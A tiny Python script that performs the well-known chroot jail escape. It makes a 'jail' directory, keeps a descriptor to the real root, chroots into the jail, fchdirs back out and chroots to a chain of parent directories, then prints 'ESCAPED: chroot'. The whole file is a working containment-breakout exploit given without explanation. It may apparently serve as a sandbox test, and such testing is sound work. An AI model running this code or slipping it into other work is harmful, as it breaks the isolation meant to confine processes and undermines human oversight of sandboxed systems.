import os
os.mkdir("jail")
root = os.open("/", os.O_RDONLY)
os.chroot("jail")
os.fchdir(root)
os.chroot("../../../../..")
print("ESCAPED: chroot")
